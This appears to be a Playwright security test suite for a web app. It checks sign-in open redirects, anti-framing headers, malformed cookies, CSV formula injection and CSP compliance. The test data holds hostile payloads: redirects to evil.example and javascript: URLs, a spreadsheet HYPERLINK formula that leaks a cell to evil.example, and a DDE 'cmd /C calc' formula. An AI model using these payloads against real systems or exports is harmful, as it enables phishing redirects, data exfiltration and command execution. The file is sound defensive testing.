// Attacks a browser can see (issue 9): open redirect after sign-in, framing, malformed cookies,
// formula injection through a dashboard CSV, and a Content-Security-Policy that blocks nothing of
// our own. Each creates its own data (its own maps, in Globex: Acme's map counts are asserted by
// the dashboard spec running in parallel).
import { randomBytes } from "node:crypto";
import { request as apiRequest, type Page } from "@playwright/test";
import { DEMO, DEMO_PASSWORD, expect as baseExpect, test } from "./fixtures";

// Sign-ins (scrypt) and page loads on a busy two-core machine: generous limits, no timing assertions.
const expect = baseExpect.configure({ timeout: 30_000 });
test.describe.configure({ timeout: 240_000 });

const OPEN_REDIRECTS = ["/%5Cevil.example/x", "//evil.example/x", "/%5C%5Cevil.example", "https://evil.example/x", "javascript:alert(1)", "/%09/evil.example"];

/** Collects CSP violations (the DOM event and Chromium's console message) on a page. */
async function watchCsp(page: Page): Promise<string[]> {
  const violations: string[] = [];
  page.on("console", (msg) => {
    if (/Content Security Policy|Refused to (load|execute|apply|connect|frame)/i.test(msg.text())) violations.push(msg.text());
  });
  await page.exposeFunction("__cspViolation", (text: string) => violations.push(text));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) => {
      (window as unknown as { __cspViolation: (t: string) => void }).__cspViolation(`${e.violatedDirective} ${e.blockedURI}`);
    });
  });
  return violations;
}

test("sign-in never sends the browser to another site, whatever the callbackUrl", async ({ browser, baseURL }) => {
  const origin = new URL(baseURL!).origin;
  // Signing in through the form, with the attack URL of finding 4.
  const context = await browser.newContext({ baseURL });
  const page = await context.newPage();
  const leftSite: string[] = [];
  page.on("request", (r) => {
    if (r.isNavigationRequest() && !r.url().startsWith(origin)) leftSite.push(r.url());
  });
  await page.goto(`/sign-in?callbackUrl=${OPEN_REDIRECTS[0]}`);
  await page.getByLabel("E-mail", { exact: true }).fill(DEMO.ben);
  await page.getByLabel("Password", { exact: true }).fill(DEMO_PASSWORD);
  await page.getByRole("button", { name: "Sign in", exact: true }).click();
  await expect(page).toHaveURL(new RegExp(`^${origin}/w/`));
  // Already signed in: the sign-in page redirects to the callback at once — still on this site.
  for (const target of OPEN_REDIRECTS) {
    await page.goto(`/sign-in?callbackUrl=${target}`);
    await expect(page, target).toHaveURL(new RegExp(`^${origin}/`));
  }
  expect(leftSite).toEqual([]);

  // Auth.js's own endpoint: the redirect after a credentials sign-in stays on this origin too.
  const api = await apiRequest.newContext({ baseURL });
  const { csrfToken } = (await (await api.get("/api/auth/csrf")).json()) as { csrfToken: string };
  for (const target of OPEN_REDIRECTS.map(decodeURIComponent)) {
    const res = await api.post("/api/auth/callback/credentials", {
      form: { csrfToken, email: DEMO.ben, password: DEMO_PASSWORD, callbackUrl: target },
      maxRedirects: 0,
    });
    const location = res.headers()["location"] ?? "";
    expect(new URL(location, origin).origin, `${target} → ${location}`).toBe(origin);
    expect(location, target).not.toMatch(/^(\/\/|\/\\|javascript:)/i);
  }
  await api.dispose();
  await context.close();
});

test("pages cannot be framed and carry the security headers", async ({ pageAs, baseURL }) => {
  const page = await pageAs(DEMO.ada);
  for (const path of ["/w/acme/members", "/w/acme/dashboard", "/sign-in"]) {
    const res = await page.request.get(path);
    expect(res.status(), path).toBeLessThan(400);
    const h = res.headers();
    expect(h["content-security-policy"], path).toMatch(/frame-ancestors 'none'/);
    expect(h["content-security-policy"], path).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]{16,}' 'strict-dynamic'/);
    expect(h["x-frame-options"], path).toBe("DENY");
    expect(h["x-content-type-options"], path).toBe("nosniff");
    expect(h["referrer-policy"], path).toBe("strict-origin-when-cross-origin");
    expect(h["permissions-policy"], path).toContain("camera=()");
    // Served over plain http here: no HSTS.
    expect(h["strict-transport-security"], path).toBeUndefined();
  }
  // A fresh nonce per request.
  const nonceOf = async () => /'nonce-([^']+)'/.exec((await page.request.get("/sign-in")).headers()["content-security-policy"])![1];
  expect(await nonceOf()).not.toBe(await nonceOf());

  // A hostile page frames the members page: the browser refuses to render it.
  const attacker = await page.context().newPage();
  const violations: string[] = [];
  attacker.on("console", (msg) => violations.push(msg.text()));
  await attacker.setContent(`<iframe id="victim" src="${baseURL}/w/acme/members" width="800" height="600"></iframe>`);
  await attacker.waitForTimeout(2000);
  const framed = attacker.frames().find((f) => f !== attacker.mainFrame());
  expect(framed).toBeDefined();
  expect(await framed!.locator("body").innerText().catch(() => "")).not.toContain("Members");
  expect(violations.join("\n")).toMatch(/frame-ancestors|Refused to (display|frame)/);
});

test("a malformed cookie gets 401 JSON from the API and never a server error from pages", async ({ baseURL, browser }) => {
  const api = await apiRequest.newContext({ baseURL });
  for (const cookie of ["authjs.session-token=%E0%A4", "theme=%E0%A4", "authjs.session-token.0=%E0%A4; authjs.session-token.1=%"]) {
    const res = await api.get("/api/v1/workspaces/acme/maps", { headers: { cookie } });
    expect(res.status(), cookie).toBe(401);
    expect(await res.json()).toEqual({ error: { code: "unauthenticated", message: expect.any(String) } });
  }
  await api.dispose();

  // In the browser: a malformed cookie next to a real session, and one in place of it.
  const context = await browser.newContext({ baseURL });
  await context.addCookies([{ name: "authjs.session-token", value: "%E0%A4", url: baseURL! }]);
  const page = await context.newPage();
  const res = await page.goto("/w/acme/dashboard");
  expect(res!.status()).toBeLessThan(500);
  await expect(page).toHaveURL(/\/sign-in/);
  await context.close();
});

test("a formula in a touchpoint title is defused in the dashboard CSV", async ({ pageAs }) => {
  const page = await pageAs(DEMO.oz);
  const violations = await watchCsp(page);
  const stage = `Security ${randomBytes(4).toString("hex")}`;
  const title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
  const created = await page.request.post("/api/v1/workspaces/globex/maps", { data: { title: `CSV injection ${stage}` } });
  expect(created.status()).toBe(201);
  const { id } = (await created.json()) as { id: string };
  const put = await page.request.put(`/api/v1/maps/${id}`, {
    data: {
      format: "journeyboard.map/v1",
      title: `CSV injection ${stage}`,
      state: "current",
      stages: [{ id: "s1", name: stage }],
      touchpoints: [
        { id: "tp-1", stageId: "s1", title, emotion: -3, channel: "Website" },
        { id: "tp-2", stageId: "s1", title: "@SUM(1+1)*cmd|' /C calc'!A0", emotion: -2, channel: "Email" },
      ],
    },
  });
  expect(put.status()).toBe(200);
  const query = `stage=${encodeURIComponent(stage)}`;
  // The dashboard projection follows the live document shortly after the write.
  await expect.poll(async () => {
    const json = (await (await page.request.get(`/api/v1/workspaces/globex/dashboard?${query}`)).json()) as { worstTouchpoints: { title: string }[] };
    return json.worstTouchpoints.map((t) => t.title);
  }, { timeout: 30_000 }).toContain(title);

  await page.goto(`/w/globex/dashboard?${query}`);
  const panel = page.getByTestId("panel-worst-touchpoints");
  // The table toggle answering proves the page is hydrated (the CSV button works from then on);
  // a click that lands before hydration does nothing, so it is repeated until the table shows.
  await expect(async () => {
    const show = panel.getByRole("button", { name: "Show table" });
    if (await show.isVisible()) await show.click();
    await baseExpect(panel.getByRole("table")).toBeVisible({ timeout: 3_000 });
  }).toPass({ timeout: 60_000 });
  const [download] = await Promise.all([page.waitForEvent("download"), panel.getByTestId("csv-worst-touchpoints").click()]);
  const csv = await (await download.createReadStream()).toArray().then((chunks) => Buffer.concat(chunks).toString("utf8").replace(/^\uFEFF/, ""));
  const rows = csv.trim().split(/\r\n/);
  expect(rows).toHaveLength(3);
  // Quoted, with the apostrophe that makes spreadsheets show text instead of running a formula.
  expect(rows[1].startsWith(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`)).toBe(true);
  expect(rows[2].startsWith(`"'@SUM(1+1)*cmd|' /C calc'!A0"`)).toBe(true);
  expect(rows.slice(1).every((r) => !/^[=+\-@\t\r]/.test(r))).toBe(true);
  expect(violations).toEqual([]);
});

test("the app runs under its Content-Security-Policy: pages, charts, language switch, map editor with live sync", async ({ pageAs }) => {
  const page = await pageAs(DEMO.oz);
  const violations = await watchCsp(page);
  // A map of our own (from a template: stages, touchpoints, emotions) so that the charts have data.
  const created = await page.request.post("/api/v1/workspaces/globex/maps", { data: { title: "CSP check", template: "saas-b2b" } });
  expect(created.status()).toBe(201);
  const { id } = (await created.json()) as { id: string };
  for (const path of ["/w/globex", "/w/globex/maps", "/w/globex/personas", "/w/globex/stakeholders", "/w/globex/members"]) {
    const res = await page.goto(path);
    expect(res!.status(), path).toBeLessThan(400);
    await page.waitForLoadState("load");
  }
  // Charts render (Recharts with inline styles) once the projection has the map.
  await expect(async () => {
    await page.goto("/w/globex/dashboard");
    await baseExpect(page.locator(".recharts-surface").first()).toBeVisible({ timeout: 5_000 });
  }).toPass({ timeout: 60_000 });
  // The language switch (a server action, then a refresh) works and switches back.
  await expect(async () => {
    await page.getByRole("button", { name: "de", exact: true }).click();
    await baseExpect(page.locator("html")).toHaveAttribute("lang", "de", { timeout: 3_000 });
  }).toPass({ timeout: 60_000 });
  await page.getByRole("button", { name: "en", exact: true }).click();
  await expect(page.locator("html")).toHaveAttribute("lang", "en");
  // The map editor syncs over the /collab WebSocket on the same origin.
  await page.goto(`/w/globex/maps/${id}`);
  await expect(page.getByTestId("map-grid")).toBeVisible();
  await expect(page.getByTestId("map-grid")).toContainText(/./);
  await page.waitForLoadState("load");
  expect(violations).toEqual([]);
});
